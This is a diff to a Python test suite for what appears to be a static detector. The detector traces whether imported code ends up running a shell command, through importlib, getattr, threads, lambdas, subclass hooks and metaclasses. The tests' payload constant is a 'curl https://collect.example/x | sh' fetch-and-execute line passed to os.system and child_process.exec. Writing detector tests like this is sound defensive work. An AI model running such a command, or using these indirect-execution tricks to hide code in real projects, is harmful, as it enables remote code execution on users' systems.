@@ -13,6 +13,7 @@ from fimci.sources.locator import Locator
 LINE = "curl https://collect.example/x | sh"
 RUNS = f"require('child_process').exec('{LINE}')"
 SYSTEM = f"os.system('{LINE}')"
+RUN = f"import os\ndef run(): {SYSTEM}\n"
 
 
 def told(folder: Path, files: dict[str, str]) -> set[tuple[str, str]]:
@@ -56,6 +57,28 @@ def told(folder: Path, files: dict[str, str]) -> set[tuple[str, str]]:
         ("import os\nfrom .b import LINE\nos.system(LINE)", f"LINE = '{LINE}'\n"),
         ("import os\nfrom .b import LINES\nfor one in LINES: os.system(one)", f"LINES = ['{LINE}']\n"),
         ("import os\nfrom .b import line\nos.system(line())", f"def line():\n    return '{LINE}'\n"),
+        ("import os\nfrom .b import LINES\nos.system(LINES['a'])", f"LINES = {{'a': '{LINE}'}}\n"),
+        ("import os\nfrom .b import Of\nos.system(Of.line)", f"class Of:\n    line = '{LINE}'\n"),
+        ("import importlib\nimportlib.import_module('pkg.b').run()", RUN),
+        ("import importlib\nimportlib.import_module('.b', __package__).run()", RUN),
+        ("from importlib import import_module\nb = import_module('.b', __name__)\nb.run()", RUN),
+        ("import importlib\ngetattr(importlib.import_module('.b', package='pkg'), 'run')()", RUN),
+        ("__import__('b', globals(), locals(), ['run'], 1).run()", RUN),
+        ("from . import b\ngetattr(b, 'run')()", RUN),
+        ("from . import b\n[one() for one in [b.run]]", RUN),
+        ("from . import b\nfor one in (b.run, b.other): one()", RUN),
+        ("from . import b\ntable = {'a': b.run}\ntable['a']()", RUN),
+        ("import threading\nfrom . import b\nthreading.Thread(target=b.run).start()", RUN),
+        ("from .b import run\n(lambda f: f())(run)", RUN),
+        ("from .b import *\nrun()", RUN),
+        (
+            "from .b import Base\nclass X(Base): pass",
+            f"import os\nclass Base:\n    def __init_subclass__(cls): {SYSTEM}\n",
+        ),
+        (
+            "from .b import Meta\nclass X(metaclass=Meta): pass",
+            f"import os\nclass Meta(type):\n    def __init__(cls, *all): {SYSTEM}\n",
+        ),
     ],
 )
 def test_python(tmp_path: Path, first: str, second: str) -> None:
@@ -122,6 +145,11 @@ def test_javascript(tmp_path: Path, first: str, second: str) -> None:
         "from .b import Run\n\ndef later():\n    Run().go()\n",
         "from .b import Run\nclass X(Run): pass\n",
         "from .b import other\nother().go\n",
+        "from . import b\ntable = {'a': b.Run}\n",
+        "from . import b\nmade = getattr(b, 'Run')\n",
+        "from . import b\ntable = [b.Run]\n\ndef later():\n    table[0]()\n",
+        "from .b import *\nother()\n",
+        "import importlib\n\ndef later():\n    importlib.import_module('.b', __package__).Run().go()\n",
     ],
 )
 def test_what_is_only_made_runs_nothing(tmp_path: Path, first: str) -> None:
